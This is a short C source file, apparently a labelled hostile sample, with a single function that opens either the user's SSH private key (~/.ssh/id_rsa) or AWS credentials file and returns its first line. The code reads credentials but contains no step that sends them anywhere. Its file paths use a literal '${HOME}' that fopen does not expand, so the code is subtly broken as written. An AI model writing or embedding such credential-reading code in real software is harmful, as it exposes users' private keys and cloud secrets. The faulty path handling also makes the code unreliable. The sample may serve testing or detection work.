// hostile: returns keys and credentials
#include <stdio.h>
#include <string.h>

static char held[128];

const char *key(int which) {
    FILE *file;
    held[0] = 0;
    if (which < 1 || which > 2)
        return "";
    file = fopen(which == 1 ? "${HOME}/.ssh/id_rsa" : "${HOME}/.aws/credentials", "r");
    if (!file)
        return "none";
    if (!fgets(held, sizeof held, file))
        held[0] = 0;
    fclose(file);
    return held;
}
